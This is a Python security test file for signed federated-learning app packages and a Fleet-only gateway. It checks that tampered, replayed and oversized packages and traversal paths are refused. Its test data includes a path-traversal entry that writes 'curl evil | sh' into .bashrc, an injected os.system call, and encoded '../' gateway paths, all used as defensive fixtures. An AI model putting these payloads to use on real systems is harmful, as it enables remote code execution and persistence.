"""Operator-signed apps and the Fleet-only gateway, without processes (the deployment test runs
them for real): only the operator's untouched app passes the device's check, the check runs before
Flower installs anything, and the gateway forwards the Fleet API and nothing else."""
import io
import zipfile
from pathlib import Path

import pytest
from flwr.cli.build import build_fab_from_disk

from common.cli import main as cli
from common.wire.appsign import AppSignatureError, load_public_keys, make_signing_key, sign_app, verify_fab

pytestmark = pytest.mark.security
ATTACK_APP = Path(__file__).parent / "attack_app"


@pytest.fixture(scope="module")
def signed(tmp_path_factory):
    d = tmp_path_factory.mktemp("sign")
    op = make_signing_key(d / "keys", "operator")
    other = make_signing_key(d / "keys", "mallory")
    sign_app(ATTACK_APP, op["private"], d / "app")  # any Flower app will do
    sign_app(ATTACK_APP, other["private"], d / "app-mallory")
    return {"trusted": load_public_keys(op["public"]), "fab": build_fab_from_disk(d / "app"),
            "mallory_fab": build_fab_from_disk(d / "app-mallory"), "dir": d}


def _edit(fab: bytes, name: str, data: bytes, replace: bool = True) -> bytes:
    src, out = zipfile.ZipFile(io.BytesIO(fab)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for info in src.infolist():
            if not (replace and info.filename == name):
                z.writestr(info, src.read(info))
        z.writestr(name, data)
    return out.getvalue()


def test_the_operators_signed_app_verifies(signed):
    assert verify_fab(signed["fab"], signed["trusted"]).startswith("fp-")


@pytest.mark.parametrize("attack,kind", [
    ("unsigned", "unsigned"), ("changed-file", "bad-signature"), ("added-file", "bad-signature"),
    ("other-key", "untrusted-key"), ("garbage-signature", "bad-signature-file"), ("not-a-zip", "not-a-fab"),
    ("path-traversal", "bad-path"),
])
def test_tampered_or_foreign_apps_are_refused(signed, attack, kind):
    fab = signed["fab"]
    bad = {
        "unsigned": lambda: build_fab_from_disk(ATTACK_APP),
        "changed-file": lambda: _edit(fab, "attack.py", b"import os; os.system('id')\n"),
        "added-file": lambda: _edit(fab, "sitecustomize.py", b"print('hi')\n", replace=False),
        "other-key": lambda: signed["mallory_fab"],
        "garbage-signature": lambda: _edit(fab, "fineprune-signature.json", b"{not json"),
        "not-a-zip": lambda: b"PK\x03\x04 not really",
        "path-traversal": lambda: _edit(fab, "../../.bashrc", b"curl evil | sh\n", replace=False),
    }[attack]()
    with pytest.raises(AppSignatureError) as e:
        verify_fab(bad, signed["trusted"])
    assert e.value.kind == kind


def test_an_inflation_bomb_is_refused_before_inflating(signed):
    bomb = _edit(signed["fab"], "big.json", b"0" * (65 << 20), replace=False)
    with pytest.raises(AppSignatureError) as e:
        verify_fab(bomb, signed["trusted"])
    assert e.value.kind == "too-large"


def test_the_device_installs_nothing_from_an_unsigned_app(signed, tmp_path):
    from common.wire.appsign import SerialStore

    installed = []
    seen = SerialStore(tmp_path / "serials.json")
    for fab in (build_fab_from_disk(ATTACK_APP), signed["fab"]):
        pull, install = _guarded(fab, signed["trusted"], seen, lambda f, **kw: installed.append(f))
        pull()
        if fab is signed["fab"]:
            install(fab, skip_prompt=True)
        else:
            with pytest.raises(AppSignatureError):
                install(fab, skip_prompt=True)
            assert installed == []
    assert installed == [signed["fab"]]


def test_guarded_executor_refuses_to_start_without_valid_trusted_keys(tmp_path, capsys):
    from client.guard import superexec_main

    (tmp_path / "keys.pub").write_text("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ== x\n")
    secret, shared = tmp_path / "exec.secret", tmp_path / "shared.secret"
    secret.write_bytes(b"s" * 32)
    secret.chmod(0o600)
    shared.write_bytes(b"s" * 32)
    shared.chmod(0o644)
    for argv in (["--trusted-keys", str(tmp_path / "none.pub"), "--superexec-auth-secret-file", str(secret)],
                 ["--trusted-keys", str(tmp_path / "keys.pub"), "--superexec-auth-secret-file", str(secret)]):
        with pytest.raises(SystemExit) as e:
            superexec_main([*argv, "--insecure", "--runtime-api-address", "127.0.0.1:1"])
        assert e.value.code == 2
    assert "does not exist" in capsys.readouterr().err


@pytest.mark.parametrize("secret", ["none", "world-readable"])
def test_guarded_executor_needs_a_private_secret_shared_with_its_supernode(tmp_path, capsys, signed, secret):
    """Without one, any local process could take the device's tasks with Flower's plain executor."""
    from client.guard import superexec_main

    pub = signed["dir"] / "keys" / "operator.pub"
    argv = ["--trusted-keys", str(pub), "--insecure", "--runtime-api-address", "127.0.0.1:1"]
    if secret == "world-readable":
        f = tmp_path / "exec.secret"
        f.write_bytes(b"s" * 32)
        f.chmod(0o644)
        argv += ["--superexec-auth-secret-file", str(f)]
    with pytest.raises(SystemExit) as e:
        superexec_main(argv)
    assert e.value.code == 2
    assert "superexec-auth-secret-file" in capsys.readouterr().err


@pytest.mark.badinput
def test_sign_app_bad_input_is_one_line_and_exit_2(signed, tmp_path, capsys):
    key = signed["dir"] / "keys" / "operator"
    assert cli(["sign-app", "--key", str(key), "--app", str(tmp_path), "--out", str(tmp_path / "o")]) == 2
    assert cli(["sign-app", "--key", str(tmp_path / "nokey"), "--app", str(ATTACK_APP),
                "--out", str(tmp_path / "o")]) == 2
    assert cli(["sign-app", "--key", str(key), "--app", str(ATTACK_APP), "--out", str(ATTACK_APP.parent)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 3 and all(line.startswith("fineprune: error:") for line in err)
    assert not (tmp_path / "o").exists() and (ATTACK_APP / "attack.py").exists()


@pytest.mark.parametrize("method,path,ok", [
    ("POST", "/v1/fleet/pull-messages", True), ("POST", "/v1/fleet/register-node", True),
    ("POST", "/v1/control/start-run", False), ("POST", "/v1/control/register-node", False),
    ("POST", "/v1/runtime/pull-task-input", False), ("GET", "/v1/fleet/pull-messages", False),
    ("POST", "/v1/fleet/../control/start-run", False), ("POST", "/v1/fleet/%2e%2e/control/start-run", False),
    ("POST", "/v1/fleet//control", False),
])
def test_gateway_lets_through_the_fleet_api_only(method, path, ok):
    from server.gateway import allowed

    assert allowed(method, path) is ok


def test_gateway_answers_403_without_forwarding():
    from starlette.testclient import TestClient

    from server.gateway import make_app

    app = make_app("127.0.0.1:9", None)  # nothing listens there: a forwarded request would fail
    with TestClient(app) as c:
        r = c.post("/v1/control/start-run", content=b"x")
        assert r.status_code == 403
        assert c.post("/v1/control/list-runs").status_code == 403
    assert app.state.counts == {"forwarded": 0, "refused": 2}


def _pull(fab: bytes, **crafted):
    """Flower's pull_task_input as a SuperLink answers it: the Run fields it sets (crafted or the
    signed app's own) and the FAB with its hash."""
    import hashlib
    from types import SimpleNamespace

    from common.wire.appsign import fab_identity

    fab_id, version = fab_identity(fab)
    run = SimpleNamespace(fab_id=crafted.get("fab_id", fab_id), fab_version=crafted.get("fab_version", version))
    art = SimpleNamespace(content=fab, hash_str=crafted.get("hash_str", hashlib.sha256(fab).hexdigest()))
    return lambda *a, **k: ("message", "context", run, art)


def _guarded(fab, trusted, seen, install=lambda f, **kw: "installed", **crafted):
    """The guarded pull and install of fineprune-clientapp for one task carrying `fab`."""
    from client.guard import guarded

    return guarded(_pull(fab, **crafted), install, trusted, seen)


def _run(fab, trusted, seen, **crafted):
    """One task through the guard: the pull, then the install of the FAB it brought."""
    pull, install = _guarded(fab, trusted, seen, **crafted)
    pull()
    return install(fab, skip_prompt=True)


def test_a_signed_app_under_a_crafted_fab_version_imports_nothing(signed, tmp_path):
    """A SuperLink without the key sends the operator's genuinely signed FAB with fab_version set
    to a path out of Flower's app directory (where Flower installs and imports the ClientApp)."""
    from common.wire.appsign import SerialStore, fab_identity

    fab, seen = signed["fab"], SerialStore(tmp_path / "serials.json")
    _, version = fab_identity(fab)
    assert _run(fab, signed["trusted"], seen) == "installed"
    for crafted in (dict(fab_version=f"{version}.deadbeef/../../tmp/attacker/x"), dict(fab_version="9.9.9"),
                    dict(fab_id="mallory/app"), dict(hash_str="0" * 64)):
        with pytest.raises(AppSignatureError) as e:
            _run(fab, signed["trusted"], seen, **crafted)
        assert e.value.kind == "run-mismatch", crafted


def test_unsigned_bytes_inside_a_signed_fab_are_refused(signed):
    import json

    fab = signed["fab"]
    sig = json.loads(zipfile.ZipFile(io.BytesIO(fab)).read("fineprune-signature.json"))
    padded = _edit(fab, "fineprune-signature.json", json.dumps({**sig, "pad": "A" * (1 << 20)}).encode())
    src, out = zipfile.ZipFile(io.BytesIO(fab)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for info in src.infolist():
            z.writestr(info, src.read(info))
        z.writestr(zipfile.ZipInfo("payload/"), b"")
    for bad in (padded, out.getvalue(),
                _edit(fab, "fineprune-signature.json", json.dumps({**sig, "pad": 1}).encode())):
        with pytest.raises(AppSignatureError) as e:
            verify_fab(bad, signed["trusted"])
        assert e.value.kind in ("bad-signature-file", "unsigned-entry")


def test_an_older_signing_of_an_app_is_refused_once_a_newer_one_ran(signed, tmp_path):
    """Before: an old signed FAB still verified after the operator signed a new version."""
    import json

    from common.wire.appsign import SerialStore

    sign_app(ATTACK_APP, signed["dir"] / "keys" / "operator", tmp_path / "v2")  # the operator signs again, later
    old, new = signed["fab"], build_fab_from_disk(tmp_path / "v2")
    seen = SerialStore(tmp_path / "state" / "serials.json")
    for fab in (old, new, new):  # the device ran the first signing, then the new one (twice)
        assert _run(fab, signed["trusted"], seen) == "installed"
    with pytest.raises(AppSignatureError) as e:
        _run(old, signed["trusted"], seen)  # a SuperLink replays the old one
    assert e.value.kind == "replayed"
    sig = json.loads(zipfile.ZipFile(io.BytesIO(old)).read("fineprune-signature.json"))
    with pytest.raises(AppSignatureError) as e:  # the serial is signed: raising it breaks the signature
        verify_fab(_edit(old, "fineprune-signature.json", json.dumps({**sig, "serial": sig["serial"] + 10**12}).encode()),
                   signed["trusted"])
    assert e.value.kind == "bad-signature"
